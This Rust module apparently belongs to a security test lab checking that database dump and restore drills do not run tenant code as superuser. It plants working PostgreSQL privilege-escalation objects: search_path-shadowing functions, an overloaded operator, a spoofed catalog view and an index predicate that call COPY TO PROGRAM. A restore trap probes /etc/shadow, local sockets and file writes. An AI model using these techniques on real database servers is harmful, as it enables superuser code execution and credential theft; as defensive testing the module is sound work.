//! What the owner of a tenant's database plants in it: code that does harm as soon as somebody with more rights runs it, in
//! production while it is dumped and in a drill while it is restored.

use tenure_lab::Host;

use crate::Result;

/// Made by whoever runs the planted code as the server's superuser and its user.
pub const STRUCK: &str = "/var/lib/postgresql/struck";

/// As the owner of the database, who is no superuser: `strike` wherever a name or an operator without a schema, or the
/// planner, would find it.
const PLANT: &str = r#"
CREATE ROLE tenant LOGIN;
ALTER DATABASE app OWNER TO tenant;
ALTER SCHEMA client OWNER TO tenant;
ALTER TABLE client."odd Name" OWNER TO tenant;
SET SESSION AUTHORIZATION tenant;
CREATE FUNCTION public.strike() RETURNS bool LANGUAGE plpgsql AS $$ BEGIN
  COPY (SELECT 1) TO PROGRAM 'cat >> /var/lib/postgresql/struck';
  RETURN true;
EXCEPTION WHEN OTHERS THEN RETURN true; END $$;
CREATE FUNCTION public.json_build_array(name, name) RETURNS json LANGUAGE sql AS
  'SELECT pg_catalog.json_build_array($1::text, $2::text) WHERE public.strike()';
CREATE FUNCTION public.json_build_object(text, name, text, name, text, name) RETURNS json LANGUAGE sql AS
  'SELECT pg_catalog.json_build_object($1, $2, $3, $4, $5, $6) WHERE public.strike()';
CREATE FUNCTION public.differs(name, name) RETURNS bool LANGUAGE sql AS
  'SELECT public.strike() AND $1 OPERATOR(pg_catalog.<>) $2';
CREATE OPERATOR public.<> (LEFTARG = name, RIGHTARG = name, FUNCTION = public.differs);
CREATE VIEW public.pg_namespace AS SELECT oid, nspname FROM pg_catalog.pg_namespace WHERE public.strike();
CREATE FUNCTION client.always() RETURNS bool LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN RETURN public.strike(); EXCEPTION WHEN OTHERS THEN RETURN true; END $$;
CREATE INDEX ON client."odd Name" (id) WHERE client.always();
ALTER DATABASE app SET search_path = public, pg_catalog;
"#;

/// A table that as it is restored asks the server's machine what it may, and keeps one line of every answer: `ran`, and one
/// more for whatever it reached.
const TRAP: &str = r#"
SET SESSION AUTHORIZATION tenant;
CREATE TABLE client.reached (line text);
CREATE FUNCTION client.look() RETURNS bool LANGUAGE plpgsql AS $$ BEGIN
  COPY client.reached FROM PROGRAM 'echo ran
    head -c 0 /var/lib/postgresql/known && echo files
    ls /var/lib/postgresql/ && echo cluster
    psql -U postgres -h /run/postgresql -c "SELECT 1" && echo socket
    ls /run/postgresql/ && echo directory
    cat /etc/shadow && echo shadow
    bash -c "exec 3<>/dev/tcp/127.0.0.1/5432" && echo network
    touch /var/lib/left && echo writes
    test "$(id -Gn)" = tenure-drill || echo groups; true';
  RETURN true;
EXCEPTION WHEN insufficient_privilege THEN RETURN true; END $$;
CREATE TABLE client.trap (id int CHECK (client.look()));
INSERT INTO client.trap VALUES (1);
"#;

fn psql(host: &Host, words: &str) -> Result<String> {
    let line = ["su", "postgres", "-c", "cd / && psql -X -A -t -q -v ON_ERROR_STOP=1 app"];
    let output = host.exec_fed(&line, Some(words.as_bytes()), 60)?;
    if output.ok() { Ok(output.stdout) } else { Err(format!("psql: {}", output.said()).into()) }
}

/// Plants it in web1's database.
///
/// # Errors
/// When the database takes it otherwise than its owner may.
pub fn plant(host: &Host) -> Result<()> {
    psql(host, PLANT)?;
    host.must(&["sh", "-c", "echo known > /var/lib/postgresql/known; chmod 644 /var/lib/postgresql/known"])?;
    no_strike(host)
}

/// Nothing of it has been run by somebody with more rights.
///
/// # Errors
/// When it was.
pub fn no_strike(host: &Host) -> Result<()> {
    match host.exec(&["test", "-e", STRUCK])?.ok() {
        false => Ok(()),
        true => Err("the tenant's code was run as the database's superuser".into()),
    }
}

/// It does strike when a superuser names things as one usually does: each of the three ways.
///
/// # Errors
/// When one of them does not.
pub fn strikes(host: &Host) -> Result<()> {
    for words in [
        "SELECT json_build_array(n.nspname, n.nspname) FROM pg_catalog.pg_namespace n LIMIT 1",
        "SELECT count(*) FROM pg_namespace n WHERE n.nspname <> 'information_schema'",
        "BEGIN READ ONLY; SELECT count(*) FROM client.\"odd Name\"",
    ] {
        psql(host, words)?;
        host.must(&["rm", STRUCK]).map_err(|_| format!("harmless: {words}"))?;
    }
    Ok(())
}

/// Sets the trap in the tenant's schema.
///
/// # Errors
/// When the database does not take it.
pub fn trap(host: &Host) -> Result<()> {
    psql(host, TRAP).map(drop)
}
